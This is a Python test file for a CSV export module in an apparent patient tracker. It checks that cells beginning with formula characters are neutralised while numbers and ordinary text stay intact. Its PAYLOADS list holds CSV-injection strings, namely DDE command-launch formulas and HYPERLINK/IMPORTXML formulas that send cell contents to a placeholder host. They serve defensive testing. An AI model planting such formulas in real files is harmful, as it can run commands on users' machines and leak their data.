"""No cell that leaves as CSV is taken for a formula, and no number is harmed by that."""

import csv
import io
import math

import pandas as pd
import pytest

from tracker.exports.cells import cell, csv_bytes, safe, safe_table

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://x.example/?a="&A1,"see")',
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")",
    "\uff1d1+1",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload):
    assert safe(payload) == f"'{payload}"
    rows = list(csv.reader(io.StringIO(csv_bytes([payload], [{payload: payload}]).decode("utf-8-sig"), newline="")))
    assert all(one.startswith("'") for row in rows for one in row)


@pytest.mark.parametrize("text", ["P-001", "a=b", "fell by 3", "−5.0 H", "", "3 of 4"])
def test_other_text_stays(text):
    assert safe(text) == text


def test_numbers_stay_numbers():
    assert [cell(one) for one in (-1.23456, 3, True, math.nan, None)] == [-1.2346, 3, True, "", ""]


def test_a_table_for_programs_keeps_its_numbers_and_loses_its_formulas():
    table = safe_table(pd.DataFrame({"patient": ["=1", "P-1"], "change": [-1.5, math.nan]}))
    assert list(table["patient"]) == ["'=1", "P-1"]
    assert table["change"].iloc[0] == -1.5
